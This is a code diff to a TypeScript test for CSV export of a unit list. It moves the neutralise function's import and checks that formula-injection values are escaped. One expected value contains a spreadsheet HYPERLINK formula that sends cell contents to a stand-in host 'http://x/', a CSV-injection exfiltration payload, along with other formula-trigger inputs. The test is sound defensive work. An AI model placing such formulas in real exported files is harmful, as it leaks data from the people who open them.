@@ -6,6 +6,7 @@ import { startTestApp } from '$tests/helpers/test-app';
 import type { App } from '../app';
 import { listAudit } from '../audit';
 import * as unitsAdmin from './admin';
+import { neutralise } from '../exports';
 import * as unitsCsv from './csv';
 
 let app: App;
@@ -150,9 +151,9 @@ describe('the unit list as CSV', () => {
 		const formula = rows.find((r) => r[0] === 'AG.LX.F1')!;
 		expect(formula[3]).toBe(`'=HYPERLINK("http://x/?d="&A1,"bấm")`);
 		expect(formula[4]).toBe(`'@SUM(A1)`);
-		expect(unitsCsv.neutralise('-2+3')).toBe(`'-2+3`);
-		expect(unitsCsv.neutralise('\tx')).toBe(`'\tx`);
-		expect(unitsCsv.neutralise('Sở Nội vụ')).toBe('Sở Nội vụ');
+		expect(neutralise('-2+3')).toBe(`'-2+3`);
+		expect(neutralise('\tx')).toBe(`'\tx`);
+		expect(neutralise('Sở Nội vụ')).toBe('Sở Nội vụ');
 	});
 
 	it('imports its own export back without changing anything', async () => {
